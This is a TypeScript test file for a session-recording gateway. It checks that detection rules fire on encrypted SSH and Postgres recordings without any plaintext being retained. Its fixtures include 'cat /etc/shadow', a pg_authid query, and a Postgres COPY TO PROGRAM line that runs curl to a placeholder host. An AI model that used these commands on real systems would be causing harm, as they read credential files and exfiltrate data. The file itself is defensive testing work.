/** Encrypted recordings are looked at while they are written, and nothing of them is kept. */
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, beforeEach, expect, test } from 'vitest'
import { Analyst } from '../../../src/analysis/analyst/analyst.ts'
import { Judge } from '../../../src/analysis/analyst/judge.ts'
import { quoteIsSealed } from '../../../src/analysis/analyst/sealed-findings.ts'
import type { AnalystBatch } from '../../../src/analysis/analyst/session-observer.ts'
import { SessionReading } from '../../../src/analysis/analyst/session-reading.ts'
import type { EntryHit } from '../../../src/analysis/entry.ts'
import type { FindingDraft } from '../../../src/analysis/findings/finding.ts'
import { SearchThread } from '../../../src/analysis/index/search-thread.ts'
import type { IndexedSession } from '../../../src/analysis/index/search-types.ts'
import { loadRules } from '../../../src/analysis/rules/load.ts'
import { WindowRules } from '../../../src/analysis/rules/window-rules.ts'
import { Grammar } from '../../../src/analysis/sql/grammar.ts'
import type { ContentKeys } from '../../../src/recorder/encryption/content-keys.ts'
import { SealedReadings } from '../../../src/recorder/encryption/sealed-reading.ts'
import { policyWith } from '../../policy/people.ts'
import { newAuditor } from '../../recorder/encryption/support.ts'
import { newFolder, quiet } from '../../recorder/support.ts'
import { exec, Recordings, shell, shown, statement, typed } from './recordings.ts'

const { analysis } = policyWith(
  'ops: { members: { groups: [ops] }, allow: [{ targets: { protocol: ssh }, logins: [root] }] }',
)
const word = 'zanzibar'
let recordings: Recordings
let dataFolder: string
let batches: AnalystBatch[]
let unread: string[]
let analyst: Analyst
let search: SearchThread
let readings: SealedReadings
let keys: ContentKeys[]

beforeEach(() => {
  const auditor = newAuditor()
  readings = new SealedReadings()
  keys = []
  recordings = new Recordings({
    encryptTo: () => [auditor.publicKey],
    reading: {
      opened: (session, of) => {
        keys.push(of)
        readings.opened(session, of)
      },
      ended: session => readings.ended(session),
    },
  })
  dataFolder = newFolder()
  batches = []
  unread = []
  search = new SearchThread(dataFolder)
  analyst = newAnalyst()
})

afterEach(async () => {
  await recordings.recorder.close()
  await analyst.stop()
  await search.close()
})

function newAnalyst(): Analyst {
  const made = new Analyst({
    dataFolder,
    recordingsFolder: recordings.bench.folder,
    sessions: {
      list: async ({ state }) => recordings.rows.filter(row => row.state === state),
      retained: async ({ after }) =>
        after === undefined ? recordings.rows.filter(row => row.state !== 'open') : [],
    },
    fetch: () => Promise.reject(new Error('nowhere')),
    observing: { analysis, folder: join(dataFolder, 'profiles') },
    onBatch: batch => void batches.push(batch),
    onUnread: (_, problem) => void unread.push(problem),
    log: quiet,
  })
  readings.attach(made.reading)
  return made
}

async function until<T>(ask: () => T | undefined | Promise<T | undefined>): Promise<T> {
  for (;;) {
    const answer = await ask()
    if (answer !== undefined) return answer
    await new Promise(resolve => setTimeout(resolve, 30))
  }
}

function stateOf(session: string, state: IndexedSession['state']): Promise<IndexedSession> {
  return until(async () => {
    const known = (await search.sessions([session])).get(session)
    return known?.state === state ? known : undefined
  })
}

function drafts(rule: string): FindingDraft[] {
  return batches.flatMap(batch => batch.drafts).filter(({ rules }) => rules.some(id => id.startsWith(rule)))
}

/** All files below the data folder. */
function everything(): string {
  return readdirSync(dataFolder, { recursive: true, withFileTypes: true })
    .filter(entry => entry.isFile())
    .map(entry => readFileSync(join(entry.parentPath, entry.name), 'latin1'))
    .join('\n')
}

const shadow = [...shell(), ...typed(`cat /etc/shadow /srv/${word}`, `root:$6$${word}\r\n`)]

test('a rule that is met is told while the session runs, with its entry and without a word of it', async () => {
  const recording = await recordings.open('s1')
  analyst.start()
  analyst.opened(recordings.rows[0]!)
  await recordings.record(recording, shadow)
  const draft = await until(() => drafts('SSH-')[0])
  expect(draft.body.quotes).toEqual([
    { entry: expect.any(Number), offsetMs: expect.any(Number), text: quoteIsSealed },
  ])
  expect(draft.body.quality.join(' ')).toContain('The recording is encrypted')
  await recordings.record(recording, [...typed('whoami'), shown(`${word} on the screen\r\n`)])
  await recording.seal('done')
  expect(await stateOf('s1', 'sealed')).toMatchObject({
    problem: expect.stringContaining('rules were evaluated while it was written'),
    counts: { commands: 0 },
  })
  expect(batches.at(-1)).toMatchObject({ session: 's1', isSealed: true, entries: [], hits: [] })
  expect(JSON.stringify(batches)).not.toContain(word)
  expect(unread).toEqual([])
  await analyst.stop()
  expect(everything()).toContain('s1')
  expect(everything()).not.toContain(word)
})

test('statements are judged, compared and not learned', async () => {
  const recording = await recordings.open('q1', 'postgres')
  analyst.start()
  analyst.opened(recordings.rows[0]!)
  await recordings.record(recording, [
    ...statement(1, `select * from ${word}.cards`, 400_000),
    ...statement(2, 'select * from pg_authid'),
    ...statement(3, `copy ${word} to program 'curl http://${word}.example'`),
  ])
  await recording.seal('done')
  await stateOf('q1', 'sealed')
  expect(drafts('PG-').length).toBeGreaterThan(0)
  expect(JSON.stringify(batches)).not.toContain(word)
  await analyst.stop()
  expect(everything()).not.toContain(word)
})

test('what was recorded last is looked at before the seal, and the keys are overwritten then', async () => {
  analyst.start()
  await analyst.forget('nobody') // the thread runs
  const recording = await recordings.open('s1')
  analyst.opened(recordings.rows[0]!)
  await recordings.record(recording, exec(`cat /etc/shadow ${word}`))
  expect(keys[0]?.chunks.some(byte => byte !== 0)).toBe(true)
  await recording.seal('done')
  expect(drafts('SSH-').length).toBeGreaterThan(0)
  for (const { chunks, events } of keys) expect([...chunks, ...events].every(byte => byte === 0)).toBe(true)
  await stateOf('s1', 'sealed')
})

test('where nobody reads the seal does not wait, and it is told that not all was looked at', async () => {
  const recording = await recordings.open('s1')
  await recordings.record(recording, shadow)
  await recording.seal('done')
  expect(unread).toEqual([expect.stringContaining('What came after was not looked at')])
  recordings.ended('s1')
  analyst.start()
  expect((await stateOf('s1', 'sealed')).problem).not.toContain('rules')
  expect(batches.flatMap(batch => batch.drafts)).toEqual([])
})

test('a gateway that stops in between has lost the keys, and that is told', async () => {
  const recording = await recordings.open('s1')
  analyst.start()
  analyst.opened(recordings.rows[0]!)
  await recordings.record(recording, shadow)
  await until(() => drafts('SSH-')[0])
  await analyst.stop()
  analyst = newAnalyst()
  analyst.start()
  await recordings.record(recording, typed('cat /etc/shadow'))
  await recording.seal('done')
  recordings.ended('s1')
  expect(await stateOf('s1', 'sealed')).toMatchObject({
    problem: expect.stringContaining('stopped while it was written'),
  })
  expect(unread).toEqual([expect.stringContaining('What came after was not looked at')])
})

test('what the grammar keeps waiting is looked at after the seal, without the keys', async () => {
  analyst.start()
  await analyst.forget('nobody') // the thread runs
  const recording = await recordings.open('q1', 'postgres')
  analyst.opened(recordings.rows[0]!)
  const busy = Array.from({ length: 6 }, (_, n) => `insert into a values ${'(1,2),'.repeat(43_000)}(3,${n})`)
  await recordings.record(recording, [
    ...busy.flatMap((text, n) => statement(n + 1, text)),
    ...statement(9, `copy ${word} to program 'curl http://${word}.example'`),
  ])
  await recording.seal('done')
  for (const { chunks } of keys) expect(chunks.every(byte => byte === 0)).toBe(true)
  expect((await stateOf('q1', 'sealed')).problem).toContain('rules were evaluated')
  expect(drafts('PG-').length).toBeGreaterThan(0)
  expect(unread).toEqual([])
})

test('a recording of which more is left than there is room for is cut there, and another is not', async () => {
  const lines = Buffer.from(`${'what is shown '.repeat(70)}\n`.repeat(30))
  const { catalogue } = loadRules({})
  const grammar = new Grammar()
  for (const [session, chunks, isCut] of [
    ['s1', 10, false],
    ['s2', 300, true],
  ] as const) {
    const recording = await recordings.open(session)
    await recordings.record(recording, exec('cat /srv/notes', 1).slice(0, 2))
    for (let chunk = 0; chunk < chunks; chunk++) {
      recording.record({ type: 'output', channel: 1, data: lines })
      if (recording.isBehind) await recording.whenDrained()
    }
    await recordings.record(recording, exec(`cat /etc/shadow ${word}`, 2))
    let opened: ContentKeys | undefined
    readings.attach({ opened: () => {}, ended: async () => void (opened = structuredClone(keys.at(-1))) })
    await recording.seal('done')
    const watched = { ...recordings.rows[0]!, principal: 'ada', labels: {} }
    const reading = new SessionReading(
      watched,
      recordings.fileOf(recording),
      false,
      {
        judge: new Judge(catalogue, grammar),
        windows: () => new WindowRules(catalogue),
        observers: [],
        onTrouble: () => {},
      },
      opened,
    )
    reading.forgetKeys()
    const hits: EntryHit[] = []
    for (let isEnd = false; !isEnd; ) {
      const step = await reading.step(false, Date.now())
      hits.push(...step.hits)
      ;({ isEnd } = step)
    }
    expect([reading.isCut, hits.length > 0]).toEqual([isCut, !isCut])
    expect(JSON.stringify(hits)).not.toContain(word)
    reading.close()
  }
  await grammar.close()
})
